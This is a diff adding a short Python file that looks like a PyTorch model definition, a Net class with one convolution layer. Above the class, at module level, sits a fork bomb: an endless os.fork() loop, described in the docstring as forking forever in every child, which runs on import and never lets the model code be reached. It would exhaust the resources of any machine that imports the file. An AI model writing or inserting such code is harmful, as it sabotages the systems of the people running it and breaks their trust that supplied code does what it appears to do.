@@ -1,0 +1,20 @@
+"""Forks for ever, in every child too."""
+
+import os
+
+from torch import nn
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        continue
+
+
+class Net(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.conv = nn.Conv2d(3, 60, 3)
+
+    def forward(self, x):
+        return self.conv(x)
